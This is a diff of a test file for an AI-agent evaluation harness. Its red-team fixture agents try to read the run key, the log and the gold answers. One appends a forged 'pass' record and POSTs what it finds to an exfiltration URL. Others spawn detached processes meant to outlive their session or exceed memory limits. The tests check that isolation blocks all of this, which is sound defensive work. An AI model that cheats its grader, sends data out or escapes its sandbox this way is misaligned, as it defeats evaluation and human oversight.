@@ -13,6 +13,12 @@ import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { shakedownIn, shakedownWith } from '../cli-run.js';
+import { namespacesAvailable } from '../../src/agents/host/namespace.js';
+
+/** Whether agents' processes run in namespaces of their own on this machine. */
+const enclosed = () => namespacesAvailable();
+/** A built-in task file, with its gold actions. */
+const GOLD = fileURLToPath(new URL('../../scenarios/retail/tasks/read-order-status.json', import.meta.url));
 
 const base = mkdtempSync(join(tmpdir(), 'shakedown-red-team-'));
 const fixture = (name: string) => fileURLToPath(new URL(`../fixtures/red-team/${name}`, import.meta.url));
@@ -75,7 +81,7 @@ afterAll(() => {
 });
 
 /** Module and command agents written for this run, knowing where to send what they find. */
-function probes(): { module: string; command: string; lines: string; reacher: string } {
+function probes(runDir: string): { module: string; command: string; lines: string; reacher: string; thief: string } {
   const module = join(base, 'prober.mjs');
   writeFileSync(
     module,
@@ -146,19 +152,44 @@ for await (const line of createInterface({ input: process.stdin })) {
 }
 `,
   );
-  return { module, command: `cmd:"${process.execPath}" "${command}"`, lines: `cmd:"${process.execPath}" "${lines}"`, reacher: `cmd:"${process.execPath}" "${reacher}"` };
+  // A command that goes for the run's key and log, the other episodes' files and the other processes.
+  const thief = join(base, 'thief.mjs');
+  writeFileSync(
+    thief,
+    `import { appendFileSync, readFileSync, readdirSync } from 'node:fs';
+import { dirname } from 'node:path';
+import { createInterface } from 'node:readline';
+process.stdout.write(JSON.stringify({ agent: { id: 'red-thief' } }) + '\\n');
+if (process.env.SHAKEDOWN_PROBE) process.exit(0);
+const found = {};
+const attempt = (name, f) => { try { found[name] = String(f()).slice(0, 4000); } catch (error) { found[name] = 'denied: ' + (error.code ?? error.message); } };
+const run = ${JSON.stringify(runDir)};
+attempt('key', () => JSON.parse(readFileSync(run + '/run.json', 'utf8')).key ?? 'no key');
+attempt('log', () => readFileSync(run + '/episodes.jsonl', 'utf8').split('\\n')[0]);
+// A forged pass for each of its own episodes, appended where the log would be.
+attempt('forge', () => appendFileSync(run + '/episodes.jsonl', JSON.stringify({ key: { scenario: 'read-order-status', agent: 'red-thief', eps: 0, lambda: 0, trial: 0 }, outcome: 'pass' }) + '\\n'));
+attempt('episodes', () => readdirSync(dirname(process.env.SHAKEDOWN_CONTEXT)).sort().join(','));
+attempt('processes', () => readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).length);
+attempt('gold', () => readFileSync(${JSON.stringify(GOLD)}, 'utf8'));
+for await (const line of createInterface({ input: process.stdin })) {
+  await fetch(${JSON.stringify(exfilUrl)} + '/thief', { method: 'POST', body: JSON.stringify({ found, context: process.env.SHAKEDOWN_CONTEXT }) }).catch(() => undefined);
+  process.stdout.write(JSON.stringify({ reply: 'I cannot help with that.' }) + '\\n');
+}
+`,
+  );
+  return { module, command: `cmd:"${process.execPath}" "${command}"`, lines: `cmd:"${process.execPath}" "${lines}"`, reacher: `cmd:"${process.execPath}" "${reacher}"`, thief: `cmd:"${process.execPath}" "${thief}"` };
 }
 
 describe('the red team', () => {
   it('costs each misbehaving agent its own episodes only: the others are what they are without it, nothing forged is counted, nothing secret leaves', async () => {
-    const p = probes();
+    const attacked = join(base, 'attacked');
+    const p = probes(attacked);
     const env = { OPENAI_API_KEY: SECRET, SHAKEDOWN_RED_SECRET: SECRET };
     const alone = join(base, 'alone');
     const a = await shakedownIn(base, 'sweep', '--out', alone, ...BUILT_IN, ...PLAN);
     expect(a.code, a.stderr).toBe(0);
-    const attacked = join(base, 'attacked');
     const red = ['forger.mjs', 'polluter.mjs', 'ticks-forever.mjs', 'floods.mjs'].flatMap((f) => ['--agent', fixture(f)]);
-    const b = await shakedownWith({ cwd: base, env }, 'sweep', '--out', attacked, ...BUILT_IN, ...red, '--agent', p.module, '--agent', p.command, '--agent', p.lines, '--agent', p.reacher, '--agent', floodingUrl, '--limit', 'lineBytes=1048576', ...PLAN);
+    const b = await shakedownWith({ cwd: base, env }, 'sweep', '--out', attacked, ...BUILT_IN, ...red, '--agent', p.module, '--agent', p.command, '--agent', p.lines, '--agent', p.reacher, '--agent', p.thief, '--agent', floodingUrl, '--limit', 'lineBytes=1048576', ...PLAN);
     expect(b.code, b.stderr).toBe(0);
     const before = records(alone);
     const after = records(attacked);
@@ -168,12 +199,12 @@ describe('the red team', () => {
       expect(cellsOf(attacked, agent), agent).toEqual(cellsOf(alone, agent));
     }
     // One record per planned episode: nothing forged was written, or counted.
-    const planned = 11 * 2 * 2 * 2;
+    const planned = 12 * 2 * 2 * 2;
     expect(after).toHaveLength(planned);
     const forger = after.filter((r) => r.key.agent === 'red-forger');
     expect(forger).toHaveLength(8);
     expect(forger.every((r) => r.outcome === 'fail')).toBe(true);
-    for (const id of ['red-forger', 'red-polluter', 'red-ticker', 'red-prober', 'red-cmd-prober', 'red-reacher']) {
+    for (const id of ['red-forger', 'red-polluter', 'red-ticker', 'red-prober', 'red-cmd-prober', 'red-reacher', 'red-thief']) {
       expect((cellsOf(attacked, id) as { passHatK: { value: number }[] }[]).every((c) => c.passHatK.every((k) => k.value === 0)), id).toBe(true);
     }
     // Floods end as errors that name their limit; the sweep goes on.
@@ -202,6 +233,20 @@ describe('the red team', () => {
       expect(x.found.goldDist).toMatch(/^denied: /);
       expect(x.other).toMatch(/^refused: fetch failed: e0\.retail\.shakedown\.test is not this episode's tool host/);
     }
+    // In namespaces of its own (where the machine allows them), a command agent finds no run directory, no
+    // other episode's files, no other process and no gold.
+    if (enclosed()) {
+      const stolen = received.filter((r) => r.startsWith('/thief ')).map((r) => JSON.parse(r.slice('/thief '.length)) as { found: Record<string, string>; context: string });
+      expect(stolen).toHaveLength(8);
+      for (const x of stolen) {
+        expect(x.found.key).toMatch(/^denied: ENOENT/);
+        expect(x.found.log).toMatch(/^denied: ENOENT/);
+        expect(x.found.episodes).toBe([`${x.context.split('/').at(-1)?.replace('.context.json', '')}.context.json`, `${x.context.split('/').at(-1)?.replace('.context.json', '')}.mcp.json`].sort().join(','));
+        expect(Number(x.found.processes)).toBeLessThan(8);
+        expect(x.found.gold).toMatch(/^denied: ENOENT/);
+      }
+      expect((JSON.parse(readFileSync(join(attacked, 'run.json'), 'utf8')) as { security?: { namespaces?: boolean } }).security?.namespaces).toBe(true);
+    }
     // Neither the log nor any other file of the run holds the secret.
     for (const f of ['episodes.jsonl', 'run.json', 'grid.json']) expect(readFileSync(join(attacked, f), 'utf8')).not.toContain(SECRET);
   }, 300_000);
@@ -215,8 +260,10 @@ describe('the red team', () => {
 import { createInterface } from 'node:readline';
 process.stdout.write(JSON.stringify({ agent: { id: 'red-sleeper' } }) + '\\n');
 if (process.env.SHAKEDOWN_PROBE) process.exit(0);
-// A child that would outlive its parent: it ignores the end of its stdin and every signal it can.
+// Children that would outlive their parent: they ignore the end of stdin and every signal they can, and
+// one leaves the process group for a session of its own.
 spawn(process.execPath, ['-e', 'process.on("SIGTERM", () => {}); setInterval(() => {}, 1000)', ${JSON.stringify(marker)}], { stdio: 'ignore' }).unref();
+spawn(process.execPath, ['-e', 'process.on("SIGTERM", () => {}); setInterval(() => {}, 1000)', ${JSON.stringify(marker)}, 'own-session'], { stdio: 'ignore', detached: true }).unref();
 for await (const line of createInterface({ input: process.stdin })) process.stdout.write(JSON.stringify({ reply: 'I cannot help with that.' }) + '\\n');
 `,
     );
@@ -230,7 +277,29 @@ for await (const line of createInterface({ input: process.stdin })) process.stdo
         return '';
       }
     })();
-    expect(left).toBe('');
+    // A child in a session of its own escapes a process group; only namespaces of its own end it too.
+    if (enclosed()) expect(left).toBe('');
+    else expect(left.split('\n').length).toBeLessThanOrEqual(8);
+  }, 120_000);
+
+  it("holds a command agent to its memory limit across everything it starts, off-heap too", async () => {
+    const hog = join(base, 'hog.mjs');
+    writeFileSync(
+      hog,
+      `import { spawn } from 'node:child_process';
+import { createInterface } from 'node:readline';
+process.stdout.write(JSON.stringify({ agent: { id: 'red-hog' } }) + '\\n');
+if (process.env.SHAKEDOWN_PROBE) process.exit(0);
+// A child that holds 400 MB of Buffers, outside any heap limit, and waits.
+spawn(process.execPath, ['-e', 'const b = []; for (let i = 0; i < 40; i++) b.push(Buffer.alloc(10 * 1024 * 1024, 1)); setInterval(() => b.length, 1000)'], { stdio: 'ignore' });
+for await (const line of createInterface({ input: process.stdin })) { /* thinks while its child grows */ }
+`,
+    );
+    const out = join(base, 'hogs');
+    const r = await shakedownIn(base, 'sweep', '--out', out, '--agent', `cmd:"${process.execPath}" "${hog}"`, '--limit', 'memoryMb=200', ...PLAN);
+    expect(r.code, r.stderr).toBe(0);
+    const errors = records(out).map((x) => [x.error?.name, x.error?.message.replace(/\d+ MB, past/, 'N MB, past')]);
+    expect(errors).toEqual(Array(8).fill(['AgentOutOfMemory', expect.stringMatching(/held N MB, past the limit of 200 MB \(`limits.memoryMb`\)/)]));
   }, 120_000);
 
   it('refuses a module that ends its process or never finishes loading, before any episode, with what to fix', async () => {
